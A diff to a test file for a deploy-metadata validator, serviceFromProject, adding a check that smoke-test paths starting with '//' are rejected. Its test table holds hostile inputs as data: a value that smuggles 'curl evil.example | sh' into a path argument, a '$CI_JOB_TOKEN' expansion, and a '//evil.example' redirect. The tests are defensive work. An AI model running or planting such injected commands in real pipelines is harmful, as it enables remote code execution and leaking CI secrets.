@@ -28,11 +28,13 @@ describe('serviceFromProject', () => {
   it.each([
     [{ registry: 'quay' }, 'apps/x/project.json metadata.service.registry is "quay"; it must be one of: gitlab, dockerhub'],
     [{ port: '3000' }, 'metadata.service.port is "3000"; it must be a TCP port number'],
-    [{ smoke: 'api/ping' }, 'metadata.service.smoke is "api/ping"; it must be a path such as "/api/ping", made of letters, digits and - . _ ~ % / ? & = + , : @'],
+    [{ smoke: 'api/ping' }, 'metadata.service.smoke is "api/ping"; it must be a path such as "/api/ping" (not //, which names another host), made of letters, digits and - . _ ~ % / ? & = + , : @'],
     // The deploy's smoke job gets the path as a CI input and a shell argument: nothing a shell or YAML would read.
     [{ smoke: '/api/ping"; curl evil.example | sh; "' }, 'metadata.service.smoke is "/api/ping\\"; curl evil.example | sh; \\""; it must be a path'],
     [{ smoke: '/api/$CI_JOB_TOKEN' }, 'metadata.service.smoke is "/api/$CI_JOB_TOKEN"; it must be a path'],
     [{ smoke: 42 }, 'metadata.service.smoke is 42; it must be a path'],
+    // The smoke test GETs new URL(path, image URL): a path starting with // would take it to another host.
+    [{ smoke: '//evil.example/x' }, 'metadata.service.smoke is "//evil.example/x"; it must be a path such as "/api/ping" (not //'],
   ])('names the file and the setting when %j is wrong', (service, message) => {
     expect(() => serviceFromProject({ name: 'x', root: 'apps/x', metadata: { service } })).toThrow(message);
   });
